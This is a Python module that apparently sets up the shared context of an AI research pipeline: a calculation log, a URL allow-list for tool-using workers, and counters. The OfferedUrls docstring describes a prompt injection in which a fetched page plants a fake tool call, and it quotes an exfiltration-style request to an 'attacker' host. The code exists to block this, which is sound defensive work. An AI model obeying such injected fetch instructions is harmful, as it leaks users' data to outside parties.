"""What every step of one run shares: settings, model client, budget, notebook, search, fetcher, events."""
from __future__ import annotations

import re
import threading
from collections.abc import Iterable
from dataclasses import dataclass, field

from pipeline.config import Settings
from pipeline.core.budget import Budget
from pipeline.core.event_types import AssignedEvent
from pipeline.core.events import EventSink, NullSink
from pipeline.core.ids import CALCULATION, fresh_id
from pipeline.core.notebook import Notebook
from pipeline.core.schema import Calculation, Problem, RunStats
from pipeline.core.urls import url_key
from pipeline.models.base import ModelClient
from pipeline.web.fetch import Fetcher
from pipeline.web.search.service import Searcher

# How many independent model calls of one step run at once. Each step's calls (analyst pages, support and sentence
# judges) wait on nothing but their input, so one wide wave is one model round; a cap of 4 made 11 judges three
# rounds. Provider limits are per minute, and a 429 is retried, so width costs no extra calls.
MODEL_FANOUT = 16


class CalculationLog:
    """The run's `calculate` results, numbered C1.., thread-safe; the same expression is one entry.

    With `preset` ((expression, sub_question) -> id, from a recording), a replay reproduces the original ids;
    every id given is reported to `events` as an "assigned" event.
    """

    def __init__(self, existing: list[Calculation] | None = None, *, events: EventSink | None = None,
                 preset: dict[tuple[str, str | None], str] | None = None):
        self._items: list[Calculation] = list(existing or [])
        self._lock = threading.Lock()
        self._events = events or NullSink()
        self._preset = dict(preset or {})

    def add(self, expression: str, result: str, sub_question: str | None = None) -> Calculation:
        with self._lock:
            for c in self._items:
                if c.expression == expression and c.sub_question == sub_question:
                    return c
            taken = [c.id for c in self._items]
            cid = self._preset.get((expression, sub_question))
            replayed = cid is not None and cid not in taken
            if not replayed:
                cid = fresh_id(CALCULATION, taken, self._preset.values())
            assert cid is not None
            calc = Calculation(id=cid, expression=expression, result=result, sub_question=sub_question)
            self._items.append(calc)
            self._events.emit(AssignedEvent(what="calculation", id=cid, expression=expression,
                                            sub_question=sub_question, replayed=replayed))
            return calc

    def all(self) -> list[Calculation]:
        """In id order."""
        with self._lock:
            return sorted(self._items, key=lambda c: int(c.id[1:]) if c.id[1:].isdigit() else 0)


# A URL in text; parentheses only in balanced pairs, so "(see https://x/a)" ends before ")" and
# "https://en.wikipedia.org/wiki/Mercury_(planet)" keeps its own.
_URL = re.compile(r"https?://(?:[^\s<>\"'()\]]|\([^\s<>\"'()]*\))+", re.I)


class OfferedUrls:
    """The URLs a tools-mode worker may fetch: those its own searches returned, or the question names.

    A page can only suggest a URL (in its text, a link, a fake tool call); it can never make one fetchable, so an
    injected "fetch https://attacker/?d=..." ends as a refusal, not a request. A URL asked for is looked up by
    url_key, but what is fetched is the spelling that was offered: a look-alike that keys the same (tracking
    parameters added, another Unicode spelling of the host) never goes out with what it added.
    """

    def __init__(self, offered: dict[str, str] | None = None) -> None:
        self._by_key: dict[str, str] = dict(offered or {})
        self._lock = threading.Lock()

    def add(self, urls: Iterable[str]) -> None:
        with self._lock:
            for u in urls:
                self._by_key.setdefault(url_key(u), u)

    def add_text(self, text: str) -> None:
        """Offer every http(s) URL written in `text` (the user's question: trusted input)."""
        self.add(m.group(0).rstrip(".,;:!?") for m in _URL.finditer(text))

    def get(self, url: str) -> str | None:
        """The offered spelling of `url`, or None when it was not offered."""
        with self._lock:
            return self._by_key.get(url_key(url))

    def copy(self) -> OfferedUrls:
        with self._lock:
            return OfferedUrls(self._by_key)

    def __contains__(self, url: object) -> bool:
        return isinstance(url, str) and self.get(url) is not None


class StatsCounter:
    """Thread-safe counters behind RunStats."""

    def __init__(self, start: RunStats | None = None):
        self._stats = (start or RunStats()).model_copy()
        self._lock = threading.Lock()

    def bump(self, name: str, n: int = 1) -> None:
        with self._lock:
            setattr(self._stats, name, getattr(self._stats, name) + n)

    def snapshot(self) -> RunStats:
        with self._lock:
            return self._stats.model_copy()


@dataclass
class RunContext:
    """Shared by all steps and worker threads of one run; each part is thread-safe."""

    settings: Settings
    llm: ModelClient
    budget: Budget
    notebook: Notebook
    search: Searcher
    fetcher: Fetcher
    events: EventSink = field(default_factory=NullSink)
    calculations: CalculationLog = field(default_factory=CalculationLog)
    stats: StatsCounter = field(default_factory=StatsCounter)
    offered: OfferedUrls = field(default_factory=OfferedUrls)
    # Known before the steps run and reported with the result, without making the run partial: the files of the
    # documents folder that could not be read.
    notices: list[Problem] = field(default_factory=list)

    @property
    def lead_model(self) -> str:
        return self.settings.lead_model

    @property
    def worker_model(self) -> str:
        return self.settings.worker_model
